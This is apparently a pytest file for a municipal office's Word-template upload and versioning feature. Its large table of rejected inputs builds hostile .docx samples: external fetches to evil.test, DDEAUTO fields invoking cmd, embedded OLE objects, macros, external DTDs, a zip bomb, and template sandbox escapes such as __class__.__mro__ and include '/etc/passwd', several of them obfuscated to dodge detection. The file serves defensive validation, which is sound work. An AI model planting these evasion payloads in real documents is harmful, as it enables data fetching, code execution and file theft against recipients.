"""The office replaces a template: tried first, kept by version, and nothing half done."""

import asyncio
import re
import time
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import httpx2
import pytest

from schema.bounded import Limits
from schema.city.rules import RuleBroken
from schema.documents import making
from schema.documents.rules import DOCUMENTS
from schema.documents.tables import DocumentTemplate
from schema.gate.tables import JournalEntry
from server import settings
from tests.documents.papers import FOLDER, sent, sentences, with_part, word
from tests.server.doors import signed_in
from tests.world import City, Said

OWN = word("资阳市回执 {{ 编号 }}", "{% for 项 in 首谈申报 %}{{ 项.地方 }}；{% endfor %}")
NESTED = "".join(f"{{% for a{n} in 编号 %}}" for n in range(12)) + "{% endfor %}" * 12
DEEP = "".join(f"{{% for a{n} in 首谈申报 %}}" for n in range(40)) + "{% endfor %}" * 40


def given(data: bytes = OWN, **more: Any) -> Said:
    return {
        "document": "receipt",
        "file": sent(data),
        "effectiveOn": "2026-11-18",
        "documentNumber": "资经合办〔2026〕7号",
        "reason": "改用本办抬头",
        "revision": 0,
    } | more


@pytest.fixture(autouse=True)
def _impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    """A template that loops is ended after one second, so that tests need not wait longer."""
    monkeypatch.setattr(making, "WORD_LIMITS", Limits(memory=400 * 2**20, seconds=1))


@pytest.fixture
def moment(city: City, monkeypatch: pytest.MonkeyPatch) -> City:
    monkeypatch.setattr(settings, "NOW", city.now)
    return city


async def receipt(city: City, no: str, query: str = "") -> list[str]:
    async with signed_in("yanjiang") as visitor:
        answer = await visitor.get(f"/projects/{no}/receipt.docx{query}")
    assert answer.status_code == 200, answer.text
    return sentences(answer.content)


async def test_the_offices_template_is_used_from_its_day_and_the_built_in_one_again(
    moment: City, monkeypatch: pytest.MonkeyPatch
) -> None:
    city, project = moment, await moment.report()
    done = await city.done(city.office, "documentTemplateSet", **given())
    assert done["template"]["version"] == 1
    later = given(word("明日的 {{ 编号 }}"), effectiveOn="2026-11-19", revision=1)
    await city.done(city.office, "documentTemplateSet", **later)
    assert (await receipt(city, project["no"]))[0] == f"资阳市回执 {project['no']}"
    assert (await receipt(city, project["no"], "?builtin=1"))[-1] != f"资阳市回执 {project['no']}"
    monkeypatch.setattr(settings, "NOW", city.now.replace(day=19))
    assert await receipt(city, project["no"]) == [f"明日的 {project['no']}"]
    back = given(builtIn=True, file=None, revision=2)
    del back["file"]
    await city.done(city.office, "documentTemplateSet", **back | {"effectiveOn": "2026-11-19"})
    assert any("招商引资项目信息报送回执" in each for each in await receipt(city, project["no"]))
    kept = await city.run(
        city.office,
        "query($on: Date) { documents { name template(on: $on) { version } }"
        " documentTemplates { version builtIn recordedAs { unit title name } } }",
        on="2026-11-18",
    )
    templates = {each["name"]: each["template"] for each in kept["documents"]}
    assert templates == {"receipt": {"version": 1}, "brief": None, "group": None}
    signature = {"unit": "领导小组办公室", "title": "主任", "name": "李雷"}
    assert all(each["recordedAs"] == signature for each in kept["documentTemplates"])
    assert [each["builtIn"] for each in kept["documentTemplates"]] == [False, False, True]


def bomb() -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b" " * (30 * 2**20))
    return made.getvalue()


def link(kind: str, target: str) -> bytes:
    relation = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return with_part(OWN, "word/_rels/document.xml.rels", old="</Relationships>", new=relation)


def relations(text: str, part: str = "document") -> bytes:
    """The template with a relationship in the words of `text`."""
    name = f"word/_rels/{part}.xml.rels"
    space = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
    if part != "document":
        return with_part(OWN, name, f"<Relationships {space}>{text}</Relationships>".encode())
    return with_part(OWN, name, old="</Relationships>", new=text + "</Relationships>")


def body(text: str) -> bytes:
    """The template with more in its body."""
    return with_part(OWN, "word/document.xml", old="<w:body>", new="<w:body>" + text)


def typed(old: str, new: str) -> bytes:
    return with_part(OWN, "[Content_Types].xml", old=old, new=new)


def code(*pieces: str) -> str:
    """A field whose code stands in several runs."""
    runs = "".join(f"<w:r>{piece}</w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OUTSIDE, FIELD, UNKNOWN = "引用了文件以外的内容", "不能使用的域", "不能识别的部件"
OUTWARD: dict[str, tuple[bytes, str]] = {
    "a mode in character references": (
        relations(
            f'<Relationship Id="r9" Type="{OFFICE}/image" Target="http://evil.test/a"'
            ' TargetMode="&#69;xternal"/>'
        ),
        OUTSIDE,
    ),
    "a mode in other quotes and lines": (
        relations(
            f"<Relationship Id='r9' Type='{OFFICE}/image' Target='//evil.test/a'\nTargetMode\n=\n'External'/>"
        ),
        OUTSIDE,
    ),
    "another prefix of the namespace": (
        relations(
            '<q:Relationship xmlns:q="http://schemas.openxmlformats.org/package/2006/relationships"'
            f' Id="r9" Type="{OFFICE}/attachedTemplate" Target="http://evil.test/a" TargetMode="External"/>'
        ),
        OUTSIDE,
    ),
    "a type in character references": (
        relations(f'<Relationship Id="r9" Type="{OFFICE}/&#x6f;leObject" Target="a.bin"/>'),
        "嵌有对象或控件",
    ),
    "a mode in other letters": (
        relations(
            f'<Relationship Id="r9" Type="{OFFICE}/image" Target="http://evil.test/a" targetMode="external"/>'
        ),
        UNKNOWN,
    ),
    "an address without a mode": (
        relations(f'<Relationship Id="r9" Type="{OFFICE}/image" Target="file:///c:/a.png"/>'),
        OUTSIDE,
    ),
    "a link to a folder of the network": (
        relations(
            f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="file://evil/a" TargetMode="External"/>'
        ),
        OUTSIDE,
    ),
    "a picture by way of a link": (
        with_part(
            relations(
                f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="http://evil.test/a.png"'
                ' TargetMode="External"/>'
            ),
            "word/document.xml",
            old="<w:body>",
            new=f'<w:body><w:p><a:blip xmlns:a="a" xmlns:r="{OFFICE}" r:link="r9"/></w:p>',
        ),
        OUTSIDE,
    ),
    "a link field to a place and a file": (
        body(code('<w:instrText>HYPERLINK \\l "a" "file://evil/a"</w:instrText>')),
        OUTSIDE,
    ),
    "a relationship of the settings": (
        relations(
            f'<Relationship Id="r9" Type="{OFFICE}/attachedTemplate" Target="&#104;ttp://evil.test/a"'
            " TargetMode='External'/>",
            part="settings",
        ),
        OUTSIDE,
    ),
    "a relationship of a part elsewhere": (
        with_part(
            OWN,
            "other/_rels/header9.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r9" Type="{OFFICE}/image" Target="http://evil.test/a" TargetMode="External"/>'
            "</Relationships>".encode(),
        ),
        OUTSIDE,
    ),
    "a relationship of nobody's kind": (
        relations('<Relationship Id="r9" Type="http://evil.test/kind" Target="a.xml"/>'),
        UNKNOWN,
    ),
    "a field in character references": (
        body(code("<w:instrText>&#73;NCLUDEPICTURE http://evil.test/a</w:instrText>")),
        FIELD,
    ),
    "a field in another prefix": (
        body(
            '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<x:fldSimple x:instr="INCLUDEPICTURE http://evil.test/a"/></x:p>'
        ),
        FIELD,
    ),
    "a second code of another namespace": (
        body(
            '<w:p xmlns:x="urn:any"><w:fldSimple w:instr="INCLUDEPICTURE a" x:instr="PAGE"/></w:p>'
        ),
        FIELD,
    ),
    "a second code of Word's own": (
        body(
            '<w:p xmlns:x="http://schemas.microsoft.com/office/word/2010/wordml">'
            '<w:fldSimple w:instr="INCLUDEPICTURE a" x:instr="PAGE"/></w:p>'
        ),
        FIELD,
    ),
    "a second address of a picture": (
        body(
            '<w:p><w:r><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:any"'
            ' src="http://evil.test/a" x:src="a.png"/></w:r></w:p>'
        ),
        OUTSIDE,
    ),
    "a second style": (
        body(
            '<w:p><w:r><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:any"'
            ' style="background:url(http://evil.test/a)" x:style="width:9pt"/></w:r></w:p>'
        ),
        OUTSIDE,
    ),
    "a second target of a relationship": (
        relations(
            f'<Relationship xmlns:x="urn:any" Id="r9" Type="{OFFICE}/image"'
            ' Target="http://evil.test/a" TargetMode="External"'
            ' x:Target="media/a.png" x:TargetMode="Internal"/>'
        ),
        UNKNOWN,
    ),
    "a relationship that is none": (
        relations(
            f'<x:Relationship xmlns:x="urn:any" Id="r9" Type="{OFFICE}/theme" Target="a.xml"/>'
        ),
        UNKNOWN,
    ),
    "a second type of a part": (
        typed(
            "</Types>",
            f'<Override PartName="/word/Document.xml" ContentType="{MAIN}"/></Types>',
        ),
        "已损坏",
    ),
    "a type that is none": (
        typed(
            "</Types>",
            f'<x:Override xmlns:x="urn:any" PartName="/word/a.xml" ContentType="{MAIN}"/></Types>',
        ),
        "已损坏",
    ),
    "a code behind an element in it": (
        body(
            code(
                '<w:instrText><x:a xmlns:x="urn:any"/>INCLUDEPICTURE a</w:instrText>',
                "<w:instrText>PAGE</w:instrText>",
            )
        ),
        FIELD,
    ),
    "a code without a field behind an element in it": (
        body(
            '<w:p><w:r><w:instrText><x:a xmlns:x="urn:any"/>INCLUDEPICTURE a</w:instrText></w:r></w:p>'
        ),
        FIELD,
    ),
    "a code before one that is passed over": (
        body(
            code(
                '<x:instrText xmlns:x="urn:any">PAGE </x:instrText>',
                "<w:instrText>INCLUDEPICTURE a</w:instrText>",
            )
        ),
        FIELD,
    ),
    "a code within one that is passed over": (
        body(
            code(
                '<x:a xmlns:x="urn:any"><w:r><w:instrText>PAGE </w:instrText></w:r></x:a>',
                "<w:instrText>INCLUDEPICTURE a</w:instrText>",
            )
        ),
        FIELD,
    ),
    "a code behind one that is deleted": (
        body(
            code(
                "<w:delInstrText>PAGE </w:delInstrText>",
                "<w:instrText>INCLUDEPICTURE a</w:instrText>",
            )
        ),
        FIELD,
    ),
    "a mark of a field that is none": (
        body(
            code(
                "<w:instrText>PAGE</w:instrText>",
                '<x:fldChar xmlns:x="urn:any" x:fldCharType="separate"/>',
                "<w:t>INCLUDEPICTURE a</w:t>",
            )
        ),
        FIELD,
    ),
    "a field in pieces of all kinds": (
        body(
            code(
                "<w:instrText>D</w:instrText>",
                "<w:t>D</w:t>",
                "<w:instrText><![CDATA[E]]><!-- --> c:\\cmd</w:instrText>",
            )
        ),
        "（DDE）",
    ),
    "a field whose name another field makes": (
        body(code('<w:fldChar w:fldCharType="begin"/>', "<w:instrText>QUOTE 68</w:instrText>")),
        FIELD,
    ),
    "a field nobody listed": (body(code("<w:instrText>RD c:\\a.docx</w:instrText>")), "（RD）"),
    "a link field to a file": (
        body(code('<w:instrText>HYPERLINK "file://evil/a"</w:instrText>')),
        OUTSIDE,
    ),
    "a field in the end notes": (
        with_part(
            typed(
                "</Types>",
                f'<Override PartName="/word/e.xml" ContentType="{MAIN.replace("document.main", "endnotes")}"/></Types>',
            ),
            "word/e.xml",
            b'<e xmlns:w="w"><w:fldSimple w:instr="INCLUDETEXT a"/></e>',
        ),
        FIELD,
    ),
    "a picture of the old drawing": (
        body(
            '<w:p><w:r><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.test/a"/></w:r></w:p>'
        ),
        OUTSIDE,
    ),
    "a mail merge without a relationship": (
        with_part(
            OWN,
            "word/settings.xml",
            b'<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>',
        ),
        OUTSIDE,
    ),
    "macros in character references": (
        typed(MAIN, "application/vnd.ms-word.document.macro&#69;nabled.main+xml"),
        "里有宏",
    ),
    "a content type that nobody listed": (
        with_part(
            typed("</Types>", '<Default Extension="bin" ContentType="application/x-any"/></Types>'),
            "word/a.bin",
            b"MZ",
        ),
        UNKNOWN,
    ),
    "markup that calls itself a picture": (with_part(OWN, "word/media/a.png", b" <svg/>"), UNKNOWN),
    "a part in UTF-16": (
        with_part(OWN, "word/settings.xml", "\ufeff<a/>".encode("utf-16-le")),
        "已损坏",
    ),
    "a part in another encoding": (
        with_part(OWN, "word/settings.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
        "已损坏",
    ),
    "a document type in a part of another name": (
        with_part(
            typed(
                "</Types>",
                f'<Default Extension="dat" ContentType="{MAIN.replace("document.main", "styles")}"/></Types>',
            ),
            "word/styles.dat",
            b'<!DOCTYPE a SYSTEM "http://evil.test/a"><a/>',
        ),
        "已损坏",
    ),
    "an instruction to the reader": (
        with_part(OWN, "word/settings.xml", b'<?xml-stylesheet href="http://evil.test/a"?><a/>'),
        "已损坏",
    ),
    "markup that the sample makes": (
        word("{{ ('<w:fldSimple w:ins' ~ 'tr=\"INCLUDEP' ~ 'ICTURE a\"/>')|safe }}"),
        "用样例试做的文书不能出具：模板里有不能使用的域",
    ),
}

WRONG: dict[str, tuple[bytes, str]] = OUTWARD | {
    "unknown fields, each by its name": (
        word("{{ 编好 }} {{ 编号 }}", "{% for 项 in 首谈申报 %}{{ 项.县区 }}{% endfor %}"),
        "没有的栏目：“编好”、“项.县区”",
    ),
    "a walk over classes": (
        word("{{ 编号.__class__.__mro__ }}"),
        "不允许的写法：“__mro__”、“__class__”",
    ),
    "a walk that hides": (word("{{ 编号|attr('_' ~ '_class__') }}"), "不允许的写法：“|attr”"),
    "a call": (word("{{ 编号.format(1) }}"), "不允许的写法"),
    "a file read": (word("{% include '/etc/passwd' %}"), "不允许的写法：“include”"),
    "a power": (word("{{ 9 ** 99999999 }}"), "不允许的写法：“pow”"),
    "a tag left open": (word("{% for 项 in 首谈申报 %}"), "写法不完整"),
    "a brace too few": (word("{{ 编号 "), "写法不完整"),
    "a loop of loops": (word(NESTED), "时间或内存的限度"),
    "forty loops in one another": (word(DEEP), "时间或内存的限度"),
    "a text without end": (word("{{ '%099999999d'|format(1) }}" * 3), "用样例试做时"),
    "a zip bomb": (bomb(), "解开后超过"),
    "a million paragraphs": (
        with_part(OWN, "word/document.xml", old="<w:body>", new="<w:body>" + "<w:p/>" * 1_000_000),
        "1000002 段，模板最多 3000 段",
    ),
    "macros": (
        with_part(
            OWN,
            "[Content_Types].xml",
            old="wordprocessingml.document.main+xml|openxmlformats-officedocument.word",
            new="ms-word.document.macroEnabled.main+xml|openxmlformats-officedocument.word",
        ),
        "里有宏",
    ),
    "a template fetched from outside": (
        link("attachedTemplate", "http://evil.test/a.dotm"),
        "引用了文件以外的内容",
    ),
    "a picture fetched from outside": (
        link("image", "http://evil.test/a.png"),
        "引用了文件以外的内容",
    ),
    "an embedded program": (link("oleObject", "a.bin"), "嵌有对象或控件"),
    "a field that starts programs": (
        with_part(
            OWN,
            "word/document.xml",
            old="<w:body>",
            new="<w:body>"
            + code("<w:instrText>DD</w:instrText>", "<w:instrText>EAUTO c:\\\\cmd</w:instrText>"),
        ),
        "DDEAUTO",
    ),
    "no Word file": (b"%PDF-1.4", "不是 Word 文档"),
    "a workbook": (b"PK\x03\x04", "不是 Word 文档"),
    "nothing": (b"", "空文件"),
    "a document type": (
        with_part(OWN, "word/document.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "已损坏",
    ),
}


@pytest.mark.parametrize("name", WRONG)
async def test_a_template_that_cannot_be_used_is_refused_with_what_to_mend(name: str) -> None:
    data, words = WRONG[name]
    with pytest.raises(RuleBroken, match=re.escape(words)) as refused:
        await making.check_template(DOCUMENTS["receipt"], "回执模板.docx", data)
    assert (refused.value.code, refused.value.field) == ("INVALID", "file")


def saved_by_word() -> bytes:
    """The template with what Word writes: fields in pieces, links, a table of contents, a pasted picture."""
    contents = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> TOC \\o "1-3" '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + code("<w:instrText> PAGE</w:instrText>", "<w:instrText>REF _Toc1 \\h </w:instrText>")[
            5:-6
        ]
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    link = '<w:instrText>HYPERLINK "https://www.ziyang.gov.cn/" \\o "资阳"</w:instrText>'
    picture = '<w:p><w:r><v:shape xmlns:v="urn:v" style="width:9pt" alt="https://a.test/a.png"/></w:r></w:p>'
    number = code("<w:instrText> NUM</w:instrText>", "<w:instrText>PAGES </w:instrText>")
    related = relations(
        f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="mailto:a@a.test" TargetMode="External"/>'
    )
    return with_part(
        related,
        "word/document.xml",
        old="<w:body>",
        new="<w:body>" + contents + code(link) + number + picture,
    )


@pytest.mark.parametrize("program", ["LibreOffice", "Word"])
async def test_an_ordinary_template_passes_whoever_saved_it(program: str) -> None:
    saved = Path(__file__).with_name("saved_by_libreoffice.docx")
    data = saved.read_bytes() if program == "LibreOffice" else saved_by_word()
    await making.check_template(DOCUMENTS["receipt"], "回执模板.docx", data)


async def test_what_would_fetch_on_one_project_alone_is_not_handed_out(moment: City) -> None:
    """The sample is harmless; the document of another project is inspected as the template was."""
    project = await moment.report()
    sample = DOCUMENTS["receipt"].sample["项目名称"]
    hidden = f"('<w:fldSimple w:ins' ~ 'tr=\"DDE a\"/>') if 项目名称 != '{sample}' else ''"
    await moment.done(
        moment.office, "documentTemplateSet", **given(word(f"{{{{ ({hidden})|safe }}}}"))
    )
    async with signed_in("yanjiang") as visitor:
        answer = await visitor.get(f"/projects/{project['no']}/receipt.docx")
    assert answer.status_code == 409 and "?builtin=1" in answer.text


async def test_a_refused_template_leaves_nothing_behind(city: City) -> None:
    before = await JournalEntry.all().count()
    for name in ("unknown fields, each by its name", "a zip bomb", "a loop of loops"):
        payload = await city.act(city.office, "documentTemplateSet", **given(WRONG[name][0]))
        (error,) = payload["userErrors"]
        assert (error["code"], error["field"]) == ("INVALID", "file")
    assert await JournalEntry.all().count() == before and not await DocumentTemplate.all().count()


async def test_a_template_that_fails_on_one_project_leaves_the_built_in_one(moment: City) -> None:
    """It names the first claim, which the sample has and this project has not."""
    project = await moment.report(moment.branch)
    await moment.done(moment.office, "documentTemplateSet", **given(word("{{ 首谈申报[0].地方 }}")))
    async with signed_in("branch") as visitor:
        answer = await visitor.get(f"/projects/{project['no']}/receipt.docx")
        assert answer.status_code == 409 and "?builtin=1" in answer.text
        path = f"/projects/{project['no']}/receipt.docx?builtin=1"
        assert (await visitor.get(path)).status_code == 200


async def test_who_comes_while_too_many_are_made_comes_again(
    moment: City, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = await moment.report()
    monkeypatch.setattr(making, "WAITING", 0)
    async with signed_in("yanjiang") as visitor:
        answer = await visitor.get(f"/projects/{project['no']}/receipt.docx")
    assert answer.status_code == 503 and answer.headers["retry-after"] == "10"
    assert "请过一会儿再试" in answer.text


async def test_all_that_is_wrong_is_answered_at_once(city: City) -> None:
    wrong = given(word("{{ 编好 }}"), effectiveOn="2026-11-17")
    payload = await city.act(city.office, "documentTemplateSet", **wrong)
    assert {error["field"] for error in payload["userErrors"]} == {"effectiveOn", "file"}
    neither = given()
    del neither["file"]
    payload = await city.act(city.office, "documentTemplateSet", **neither)
    assert payload["userErrors"][0]["field"] == "file"
    both = await city.act(city.office, "documentTemplateSet", **given(builtIn=True))
    assert both["userErrors"][0]["field"] == "builtIn"
    other = await city.act(city.office, "documentTemplateSet", **given(document="bulletin"))
    assert other["userErrors"][0]["field"] == "document"


async def test_who_has_not_read_the_last_version_is_told(city: City) -> None:
    await city.done(city.office, "documentTemplateSet", **given())
    payload = await city.act(city.office, "documentTemplateSet", **given(word("{{ 编号 }}")))
    (error,) = payload["userErrors"]
    assert error["code"] == "STALE" and "第 1 版" in error["message"]


async def test_two_at_once_leave_one_version(stored_city: City) -> None:
    city = stored_city
    answers = await asyncio.gather(
        *(city.act(city.office, "documentTemplateSet", **given()) for _ in range(2))
    )
    codes = sorted(error["code"] for answer in answers for error in answer["userErrors"])
    assert codes == ["STALE"]
    assert await DocumentTemplate.all().count() == 1


async def test_the_server_answers_others_while_a_template_loops(moment: City) -> None:
    """The loop ends in a process of its own; the event loop never waits for it."""
    slowest, done = 0.0, asyncio.Event()

    async def others() -> None:
        nonlocal slowest
        while not done.is_set():
            start = time.perf_counter()
            await asyncio.sleep(0.005)
            slowest = max(slowest, time.perf_counter() - start)

    watching = asyncio.create_task(others())
    payload = await moment.act(moment.office, "documentTemplateSet", **given(word(NESTED)))
    done.set()
    await watching
    assert payload["userErrors"][0]["field"] == "file"
    assert slowest < 1


async def test_the_page_takes_a_template_and_gives_it_back(moment: City) -> None:
    async with signed_in("office") as visitor:
        page = (await visitor.get("/documents/receipt")).text
        assert "首谈申报 ›" in page and "更换模板" in page
        built_in = await visitor.get("/documents/receipt/builtin.docx")
        assert built_in.content == (FOLDER / "receipt.docx").read_bytes()
        sent_ = await post(visitor, word("{{ 编好 }}"))
        assert sent_.status_code == 422 and "“编好”" in sent_.text and "改用本办抬头" in sent_.text
        sent_ = await post(visitor, OWN)
        assert sent_.status_code == 303, sent_.text
        page = (await visitor.get("/documents/receipt")).text
        assert "第 1 版" in page and "资经合办〔2026〕7号" in page and "恢复内置模板" in page
        again = await post(visitor, OWN)
        assert again.status_code == 409 and "刚由他人更换" in again.text
        assert (await visitor.get("/documents/receipt/versions/1.docx")).content == OWN
        assert (await visitor.get("/documents/receipt/versions/2.docx")).status_code == 404
        assert (await visitor.get("/documents/bulletin")).status_code == 404
    async with signed_in("leader") as visitor:
        page = (await visitor.get("/documents/receipt")).text
        assert "第 1 版" in page and 'type="file"' not in page
    async with signed_in("agent") as visitor:
        assert (await visitor.get("/documents/receipt/versions/1.docx")).status_code == 404


async def post(visitor: httpx2.AsyncClient, data: bytes) -> httpx2.Response:
    fields = {
        "act": "DocumentTemplateSet",
        "document": "receipt",
        "effectiveOn": "2026-11-18",
        "documentNumber": "资经合办〔2026〕7号",
        "reason": "改用本办抬头",
        "revision": "0",
    }
    return await visitor.post(
        "/documents/receipt", data=fields, files={"file": ("回执模板.docx", data)}
    )
